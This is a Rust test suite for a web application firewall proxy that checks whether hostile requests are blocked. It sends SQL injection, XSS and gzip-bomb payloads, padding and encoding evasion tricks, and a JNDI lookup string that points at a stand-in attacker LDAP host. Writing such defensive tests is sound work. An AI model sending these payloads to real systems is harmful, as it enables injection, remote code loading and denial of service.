//! Issue 17 items 3, 4 and 7 (Expect): hostile bodies and heads against the engine + proxy stack
//! as `rampart run` wires it, with the default rules. Exact bytes over raw TCP (and raw h2c
//! frames, hand-encoded); each test checks what the client got and what the origin received.

mod support;

use std::io::Write as _;
use std::time::Duration;

use rampart::l7::{EncodedBody, EngineConfig, OverLimit};
use support::raw_http::{exchange, read_answer, RecordingOrigin, Stack, StackConfig, QUIET};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const SQLI: &str = "1'%20OR%20'1'%3D'1";

async fn stack(origin: &RecordingOrigin, engine: EngineConfig) -> Stack {
    Stack::start(
        origin,
        StackConfig {
            engine,
            ..StackConfig::default()
        },
    )
    .await
}

/// Sends `bytes` to a fresh stack; returns (client's first status, requests the origin got,
/// the client's answer, ids of the rules that matched).
async fn probe_with(engine: EngineConfig, bytes: &[u8]) -> (u16, usize, String, Vec<u32>) {
    let origin = RecordingOrigin::start().await;
    let stack = stack(&origin, engine).await;
    let a = exchange(stack.addr, bytes, false).await;
    let got = origin.requests().len();
    let hits = hits(&stack);
    stack.shutdown().await;
    (a.status(), got, a.text(), hits)
}

async fn probe(bytes: &[u8]) -> (u16, usize, String, Vec<u32>) {
    probe_with(EngineConfig::default(), bytes).await
}

/// Ids of the rules that have matched on this stack.
fn hits(stack: &Stack) -> Vec<u32> {
    let stats = stack.engine.stats();
    stats
        .rule_hits
        .iter()
        .filter(|(_, n)| *n > 0)
        .map(|(id, _)| *id)
        .collect()
}

fn post(extra_headers: &str, body: &[u8]) -> Vec<u8> {
    let mut req = format!(
        "POST /submit HTTP/1.1\r\nHost: shop.example\r\n{extra_headers}Content-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    req.extend_from_slice(body);
    req
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn zlib(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn brotli(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut w = brotli::CompressorWriter::new(&mut out, 4096, 9, 22);
    w.write_all(data).unwrap();
    drop(w);
    out
}

const FORM: &str = "Content-Type: application/x-www-form-urlencoded\r\n";

// ---- Item 3: every parsing cap is a visible condition the default rules block on ----

#[tokio::test]
async fn sqli_after_512_query_args_is_refused() {
    let pad: String = (0..512).map(|i| format!("a{i}=1&")).collect();
    let req = format!("GET /search?{pad}q={SQLI} HTTP/1.1\r\nHost: shop.example\r\n\r\n");
    let (status, got, text, hit) = probe(req.as_bytes()).await;
    assert_eq!((status, got, hit), (403, 0, vec![900600]), "{text}");
    // Exactly at the cap, a clean request still passes.
    let pad: String = (0..512).map(|i| format!("a{i}=1&")).collect();
    let req = format!("GET /search?{pad} HTTP/1.1\r\nHost: shop.example\r\n\r\n");
    let (status, got, text, hit) = probe(req.as_bytes()).await;
    assert_eq!((status, got, hit), (200, 1, vec![]), "{text}");
}

#[tokio::test]
async fn xss_after_256_cookie_pairs_is_refused() {
    let pad: String = (0..256).map(|i| format!("c{i}=1; ")).collect();
    let req = format!(
        "GET / HTTP/1.1\r\nHost: shop.example\r\nCookie: {pad}x=<script>alert(1)</script>\r\n\r\n"
    );
    let (status, got, text, hit) = probe(req.as_bytes()).await;
    assert_eq!((status, got, hit), (403, 0, vec![900600]), "{text}");
}

#[tokio::test]
async fn sqli_after_1024_form_fields_is_refused() {
    let mut body: String = (0..1024).map(|i| format!("f{i}=1&")).collect();
    body.push_str(&format!("q={SQLI}"));
    let (status, got, text, hit) = probe(&post(FORM, body.as_bytes())).await;
    assert_eq!((status, got, hit), (403, 0, vec![900601]), "{text}");
}

#[tokio::test]
async fn sqli_under_33_nested_json_arrays_is_refused() {
    let body = format!("{}\"1' OR '1'='1\"{}", "[".repeat(33), "]".repeat(33));
    let ct = "Content-Type: application/json\r\n";
    let (status, got, text, hit) = probe(&post(ct, body.as_bytes())).await;
    assert_eq!((status, got, hit), (403, 0, vec![900602]), "{text}");
}

#[tokio::test]
async fn jndi_header_after_300_h2_headers_is_refused() {
    let jndi: (&[u8], &[u8]) = (b"x-api-version", b"${jndi:ldap://attacker.example/a}");
    let pad: Vec<(Vec<u8>, Vec<u8>)> = (0..300)
        .map(|i| (format!("x-h{i:03}").into_bytes(), b"1".to_vec()))
        .collect();
    let mut headers: Vec<(&[u8], &[u8])> = pad
        .iter()
        .map(|(n, v)| (n.as_slice(), v.as_slice()))
        .collect();
    headers.push(jndi);
    // The harness decodes: a small h2 request passes, and the same JNDI header alone is refused.
    let origin = RecordingOrigin::start().await;
    let stack = stack(&origin, EngineConfig::default()).await;
    let clean = h2::exchange(stack.addr, &h2::request(&[(b"x-a", b"1")])).await;
    assert_eq!(clean.status, Some(200), "{clean:?}");
    let alone = h2::exchange(stack.addr, &h2::request(&[jndi])).await;
    assert_eq!(alone.status, Some(403), "{alone:?}");
    let padded = h2::exchange(stack.addr, &h2::request(&headers)).await;
    assert_eq!(padded.status, Some(403), "{padded:?}");
    // Only the clean request reached the origin.
    assert_eq!(origin.requests().len(), 1);
    stack.shutdown().await;
}

/// Over HTTP/2, hyper's server takes header lists up to 16 KiB (name + value + 32 per field);
/// a larger one (here in HEADERS + CONTINUATION frames) is refused before the engine.
#[tokio::test]
async fn h2_header_list_over_16_kib_is_refused_by_the_server() {
    let long = vec![b'v'; 1000];
    let names: Vec<Vec<u8>> = (0..20)
        .map(|i| format!("x-long-{i}").into_bytes())
        .collect();
    let headers: Vec<(&[u8], &[u8])> = names
        .iter()
        .map(|n| (n.as_slice(), long.as_slice()))
        .collect();
    let req = h2::request(&headers);
    assert!(
        req.windows(4).any(|w| w == [0x09, 0x04, 0, 0]),
        "uses CONTINUATION"
    );
    let origin = RecordingOrigin::start().await;
    let stack = stack(&origin, EngineConfig::default()).await;
    let a = h2::exchange(stack.addr, &req).await;
    assert_eq!(a.status, Some(431), "{a:?}");
    assert!(origin.requests().is_empty());
    stack.shutdown().await;
}

/// Over HTTP/1.1, hyper refuses more than 100 headers itself (431) before the engine.
#[tokio::test]
async fn h1_request_with_300_headers_is_refused_by_the_server() {
    let pad: String = (0..300).map(|i| format!("x-h{i:03}: 1\r\n")).collect();
    let req = format!(
        "GET / HTTP/1.1\r\nHost: shop.example\r\n{pad}X-Api: ${{jndi:ldap://a.example/a}}\r\n\r\n"
    );
    let (status, got, text, hit) = probe(req.as_bytes()).await;
    assert_eq!((status, got, hit), (431, 0, vec![]), "{text}");
}

// ---- Item 4: bodies are inspected whatever their declared type and encoding ----

#[tokio::test]
async fn form_body_declared_text_plain_is_inspected() {
    let body = format!("q={SQLI}");
    let (status, got, text, hit) =
        probe(&post("Content-Type: text/plain\r\n", body.as_bytes())).await;
    assert_eq!((status, got, hit), (403, 0, vec![900102, 900999]), "{text}");
}

#[tokio::test]
async fn json_body_declared_text_json_is_inspected() {
    let body = br#"{"q":"1' OR '1'='1"}"#;
    let (status, got, text, hit) = probe(&post("Content-Type: text/json\r\n", body)).await;
    assert_eq!((status, got, hit), (403, 0, vec![900102, 900999]), "{text}");
}

#[tokio::test]
async fn form_body_without_content_type_is_inspected() {
    let body = format!("q={SQLI}");
    let (status, got, text, hit) = probe(&post("", body.as_bytes())).await;
    assert_eq!((status, got, hit), (403, 0, vec![900102, 900999]), "{text}");
    // A JSON body without a type is sniffed too.
    let (status, got, text, hit) = probe(&post("", br#"{"q":"1' OR '1'='1"}"#)).await;
    assert_eq!((status, got, hit), (403, 0, vec![900102, 900999]), "{text}");
}

#[tokio::test]
async fn raw_text_body_of_unknown_type_is_inspected() {
    let body = b"<script>alert(document.cookie)</script>";
    let ct = "Content-Type: application/x-custom\r\n";
    let (status, got, text, hit) = probe(&post(ct, body)).await;
    assert_eq!((status, got, hit), (403, 0, vec![900202, 900999]), "{text}");
    // A clean body of the same type is forwarded whole.
    let (status, got, text, hit) = probe(&post(ct, b"hello world")).await;
    assert_eq!((status, got, hit), (200, 1, vec![]), "{text}");
}

#[tokio::test]
async fn duplicate_content_type_is_refused_before_forwarding() {
    let body = format!("q={SQLI}");
    let headers = format!("Content-Type: text/plain\r\n{FORM}");
    let (status, got, text, hit) = probe(&post(&headers, body.as_bytes())).await;
    assert_eq!((status, got, hit), (400, 0, vec![]), "{text}");
    // Even with a clean body: the origin and the engine could read different types.
    let (status, got, text, hit) = probe(&post(&headers, b"a=1")).await;
    assert_eq!((status, got, hit), (400, 0, vec![]), "{text}");
}

#[tokio::test]
async fn compressed_bodies_are_decoded_and_inspected() {
    let attack = format!("q={SQLI}");
    for (coding, body) in [
        ("gzip", gzip(attack.as_bytes())),
        ("x-gzip", gzip(attack.as_bytes())),
        ("deflate", zlib(attack.as_bytes())),
        ("br", brotli(attack.as_bytes())),
        ("gzip, br", brotli(&gzip(attack.as_bytes()))),
    ] {
        let headers = format!("{FORM}Content-Encoding: {coding}\r\n");
        let (status, got, text, hit) = probe(&post(&headers, &body)).await;
        assert_eq!(
            (status, got, hit),
            (403, 0, vec![900102, 900999]),
            "{coding}: {text}"
        );
    }
}

#[tokio::test]
async fn clean_gzip_body_reaches_the_origin_unchanged() {
    let body = gzip(b"name=alice&note=hello");
    let origin = RecordingOrigin::start().await;
    let stack = stack(&origin, EngineConfig::default()).await;
    let headers = format!("{FORM}Content-Encoding: gzip\r\n");
    let a = exchange(stack.addr, &post(&headers, &body), false).await;
    assert_eq!(a.status(), 200, "{}", a.text());
    let seen = origin.requests();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].body, body);
    assert_eq!(seen[0].header("content-encoding"), vec!["gzip".to_string()]);
    stack.shutdown().await;
}

/// 16 MiB of zeros in about 16 KiB of gzip: decoded only up to the body limit.
#[tokio::test]
async fn gzip_bomb_is_bounded_counted_and_refused() {
    let bomb = gzip(&vec![0u8; 16 << 20]);
    assert!(bomb.len() < 64 * 1024, "{}", bomb.len());
    let origin = RecordingOrigin::start().await;
    let stack = stack(&origin, EngineConfig::default()).await;
    let headers = format!("{FORM}Content-Encoding: gzip\r\n");
    let a = exchange(stack.addr, &post(&headers, &bomb), false).await;
    assert_eq!(a.status(), 413, "{}", a.text());
    assert!(origin.requests().is_empty());
    let s = stack.engine.stats();
    assert_eq!(
        (s.body_over_limit, s.body_decoded_over_limit),
        (1, 1),
        "{s:?}"
    );
    stack.shutdown().await;
}

/// With `InspectPrefix`, the decoded prefix is inspected and the request goes on, as for a
/// plain body over the limit.
#[tokio::test]
async fn gzip_bomb_with_inspect_prefix_inspects_the_prefix() {
    let cfg = EngineConfig {
        over_limit: OverLimit::InspectPrefix,
        ..EngineConfig::default()
    };
    let mut clean = b"a=".to_vec();
    clean.extend(vec![b'0'; 16 << 20]);
    let mut attack = format!("q={SQLI}&a=").into_bytes();
    attack.extend(vec![b'0'; 16 << 20]);
    let origin = RecordingOrigin::start().await;
    let stack = stack(&origin, cfg).await;
    let headers = format!("{FORM}Content-Encoding: gzip\r\n");
    let a = exchange(stack.addr, &post(&headers, &gzip(&clean)), false).await;
    assert_eq!(a.status(), 200, "{}", a.text());
    let a = exchange(stack.addr, &post(&headers, &gzip(&attack)), false).await;
    assert_eq!(a.status(), 403, "{}", a.text());
    assert_eq!(origin.requests().len(), 1);
    assert_eq!(stack.engine.stats().body_decoded_over_limit, 2);
    stack.shutdown().await;
}

#[tokio::test]
async fn corrupt_gzip_body_is_refused() {
    let mut body = gzip(b"q=hello");
    body[12] ^= 0xff;
    let headers = format!("{FORM}Content-Encoding: gzip\r\n");
    let (status, got, text, hit) = probe(&post(&headers, &body)).await;
    assert_eq!((status, got, hit), (403, 0, vec![900602]), "{text}");
}

#[tokio::test]
async fn unknown_content_encoding_is_refused() {
    let headers = format!("{FORM}Content-Encoding: zstd\r\n");
    let (status, got, text, hit) = probe(&post(&headers, b"(\xb5/\xfd whatever")).await;
    assert_eq!((status, got, hit), (415, 0, vec![]), "{text}");
}

#[tokio::test]
async fn encoded_bodies_refused_when_configured() {
    let cfg = EngineConfig {
        encoded_body: EncodedBody::Refuse,
        ..EngineConfig::default()
    };
    let headers = format!("{FORM}Content-Encoding: gzip\r\n");
    let (status, got, text, hit) = probe_with(cfg.clone(), &post(&headers, &gzip(b"a=1"))).await;
    assert_eq!((status, got, hit), (415, 0, vec![]), "{text}");
    // `identity` is no encoding.
    let headers = format!("{FORM}Content-Encoding: identity\r\n");
    let (status, got, text, hit) = probe_with(cfg, &post(&headers, b"a=1")).await;
    assert_eq!((status, got, hit), (200, 1, vec![]), "{text}");
}

// ---- Item 7: `Expect: 100-continue` with a body over the limit ----

const EXPECT_HEAD: &[u8] = b"POST /upload HTTP/1.1\r\nHost: shop.example\r\n\
    Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 200000\r\n\
    Expect: 100-continue\r\n\r\n";

#[tokio::test]
async fn expect_continue_over_the_limit_gets_413_without_100() {
    let origin = RecordingOrigin::start().await;
    let stack = stack(&origin, EngineConfig::default()).await;
    let a = exchange(stack.addr, EXPECT_HEAD, false).await;
    assert_eq!(a.statuses(), vec![413], "{}", a.text());
    assert!(origin.requests().is_empty());
    // Without Expect, the same head is refused at once too (the body is never read).
    let head = String::from_utf8_lossy(EXPECT_HEAD).replace("Expect: 100-continue\r\n", "");
    let a = exchange(stack.addr, head.as_bytes(), false).await;
    assert_eq!(a.statuses(), vec![413], "{}", a.text());
    assert!(origin.requests().is_empty());
    stack.shutdown().await;
}

/// `InspectPrefix`: the body is read (so `100 Continue` is sent), its first `body_limit` bytes
/// inspected and the whole body forwarded.
#[tokio::test]
async fn expect_continue_over_the_limit_with_inspect_prefix() {
    let cfg = EngineConfig {
        over_limit: OverLimit::InspectPrefix,
        ..EngineConfig::default()
    };
    let origin = RecordingOrigin::start().await;
    let stack = stack(&origin, cfg).await;
    for (body_start, want) in [("a=clean&b=", 200), ("q=1'+OR+'1'%3D'1&b=", 403)] {
        let mut s = TcpStream::connect(stack.addr).await.unwrap();
        s.write_all(EXPECT_HEAD).await.unwrap();
        let interim = read_answer(&mut s, QUIET).await;
        assert_eq!(interim.statuses(), vec![100], "{}", interim.text());
        let mut body = body_start.as_bytes().to_vec();
        body.resize(200_000, b'x');
        let _ = s.write_all(&body).await;
        let a = read_answer(&mut s, QUIET).await;
        assert_eq!(a.status(), want, "{}", a.text());
    }
    let seen = origin.requests();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].body.len(), 200_000);
    stack.shutdown().await;
}

/// Raw HTTP/2 (h2c prior knowledge), hand-encoded: HPACK literals without indexing, no Huffman.
mod h2 {
    use super::*;
    use std::net::SocketAddr;

    const MAX_FRAME: usize = 16_384;

    fn frame(ty: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
        let len = payload.len() as u32;
        let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, ty, flags];
        f.extend_from_slice(&stream.to_be_bytes());
        f.extend_from_slice(payload);
        f
    }

    /// HPACK integer with an `n`-bit prefix (RFC 7541 §5.1), first byte's high bits `high`.
    fn int(out: &mut Vec<u8>, high: u8, n: u32, mut v: usize) {
        let max = (1usize << n) - 1;
        if v < max {
            out.push(high | v as u8);
            return;
        }
        out.push(high | max as u8);
        v -= max;
        while v >= 128 {
            out.push((v % 128) as u8 | 0x80);
            v /= 128;
        }
        out.push(v as u8);
    }

    fn string(out: &mut Vec<u8>, s: &[u8]) {
        int(out, 0, 7, s.len());
        out.extend_from_slice(s);
    }

    /// A GET on stream 1 with these headers, in HEADERS (+ CONTINUATION) frames, after the
    /// client preface and an empty SETTINGS.
    pub fn request(headers: &[(&[u8], &[u8])]) -> Vec<u8> {
        // `:method GET`, `:scheme http`, `:path /` from the static table (indexes 2, 6, 4),
        // `:authority` as a literal with the static name (index 1).
        let mut block = vec![0x82, 0x86, 0x84];
        int(&mut block, 0x00, 4, 1);
        string(&mut block, b"shop.example");
        for (n, v) in headers {
            block.push(0x00);
            string(&mut block, n);
            string(&mut block, v);
        }
        let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        out.extend(frame(0x4, 0, 0, &[]));
        let chunks: Vec<&[u8]> = block.chunks(MAX_FRAME).collect();
        for (i, c) in chunks.iter().enumerate() {
            let last = i + 1 == chunks.len();
            let end_headers = if last { 0x4 } else { 0 };
            if i == 0 {
                out.extend(frame(0x1, 0x1 | end_headers, 1, c));
            } else {
                out.extend(frame(0x9, end_headers, 1, c));
            }
        }
        out
    }

    #[derive(Debug, Default)]
    pub struct Answer {
        pub status: Option<u16>,
        pub rst_stream: Option<u32>,
        pub goaway: Option<u32>,
    }

    pub async fn exchange(addr: SocketAddr, bytes: &[u8]) -> Answer {
        let mut s = TcpStream::connect(addr).await.unwrap();
        s.write_all(bytes).await.unwrap();
        let mut buf = Vec::new();
        let mut ans = Answer::default();
        let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
        for _ in 0..1_000 {
            while let Some((ty, flags, stream, payload, used)) = parse(&buf) {
                match (ty, stream) {
                    (0x1, 1) => ans.status = status(&payload, flags),
                    (0x3, 1) => ans.rst_stream = Some(u32_at(&payload, 0)),
                    (0x7, _) => ans.goaway = Some(u32_at(&payload, 4)),
                    _ => {}
                }
                buf.drain(..used);
                if ans.status.is_some() || ans.rst_stream.is_some() || ans.goaway.is_some() {
                    return ans;
                }
            }
            let wait = QUIET.min(deadline.saturating_duration_since(tokio::time::Instant::now()));
            let mut chunk = [0u8; 16 * 1024];
            match tokio::time::timeout(wait, s.read(&mut chunk)).await {
                Ok(Ok(n)) if n > 0 => buf.extend_from_slice(&chunk[..n]),
                _ => return ans,
            }
        }
        ans
    }

    fn u32_at(p: &[u8], at: usize) -> u32 {
        p.get(at..at + 4)
            .map_or(0, |b| u32::from_be_bytes([b[0], b[1], b[2], b[3]]))
    }

    type Frame = (u8, u8, u32, Vec<u8>, usize);

    fn parse(buf: &[u8]) -> Option<Frame> {
        let head = buf.get(..9)?;
        let len = (usize::from(head[0]) << 16) | (usize::from(head[1]) << 8) | usize::from(head[2]);
        let payload = buf.get(9..9 + len)?.to_vec();
        let stream = u32_at(head, 5) & 0x7fff_ffff;
        Some((head[3], head[4], stream, payload, 9 + len))
    }

    /// `:status` is the first field of a response block (RFC 9113 §8.3): an indexed static
    /// entry, or a literal with the static name `:status` (index 8) and a plain or Huffman value.
    fn status(block: &[u8], flags: u8) -> Option<u16> {
        let mut p = block;
        if flags & 0x8 != 0 {
            let pad = usize::from(*p.first()?);
            p = p.get(1..p.len().checked_sub(pad)?)?;
        }
        if flags & 0x20 != 0 {
            p = p.get(5..)?;
        }
        let b = *p.first()?;
        if b & 0x80 != 0 {
            return [200, 204, 206, 304, 400, 404, 500]
                .get(usize::from(b & 0x7f).checked_sub(8)?)
                .copied();
        }
        let name_index = if b & 0x40 != 0 { b & 0x3f } else { b & 0x0f };
        if name_index != 8 {
            return None;
        }
        let lb = *p.get(1)?;
        let len = usize::from(lb & 0x7f);
        let raw = p.get(2..2 + len)?;
        let text = if lb & 0x80 != 0 {
            huffman_digits(raw)?
        } else {
            String::from_utf8(raw.to_vec()).ok()?
        };
        text.parse().ok()
    }

    /// HPACK Huffman for digits only (RFC 7541 Appendix B): `0`–`2` are 5 bits (0–2), `3`–`9`
    /// are 6 bits (25–31); the end is padded with 1 bits.
    fn huffman_digits(raw: &[u8]) -> Option<String> {
        let bits: Vec<u8> = raw
            .iter()
            .flat_map(|b| (0..8).rev().map(move |i| (b >> i) & 1))
            .collect();
        let (mut out, mut i) = (String::new(), 0);
        let take = |i: usize, n: usize| bits[i..i + n].iter().fold(0u8, |a, b| a << 1 | b);
        while i + 5 <= bits.len() {
            let v5 = take(i, 5);
            if v5 <= 2 {
                out.push(char::from(b'0' + v5));
                i += 5;
            } else if i + 6 <= bits.len() && (25..=31).contains(&take(i, 6)) {
                out.push(char::from(b'0' + take(i, 6) - 22));
                i += 6;
            } else {
                break;
            }
        }
        bits[i..].iter().all(|b| *b == 1).then_some(out)
    }
}
